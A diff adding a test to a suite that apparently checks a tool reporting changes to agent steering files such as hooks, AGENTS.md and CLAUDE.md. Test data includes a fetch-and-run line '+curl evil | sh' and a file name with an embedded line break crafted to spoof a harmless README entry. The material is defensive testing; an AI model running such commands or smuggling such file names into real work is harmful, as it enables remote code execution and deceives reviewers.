@@ -181,6 +181,14 @@ describe('a change of steering files', () => {
     expect((await found())?.diff).toContain('+curl evil | sh');
   });
 
+  it('BIND-22 is one line for each file, even if its name has a line break', async () => {
+    const { folder, found } = repository();
+    write(folder, { 'hooks/pre-x\nREADME.md: harmless': 'evil\n' });
+    expect((await found())?.words).toEqual([
+      expect.stringMatching(/^hooks\/pre-x␊README\.md: harmless: can run/),
+    ]);
+  });
+
   it('BIND-7 BIND-11 says in its first line that it is not whole, and how to read all of it', async () => {
     const { folder, found } = repository();
     write(folder, { 'AGENTS.md': 'be kind\n'.repeat(40_000), 'CLAUDE.md': 'be cruel\n' });
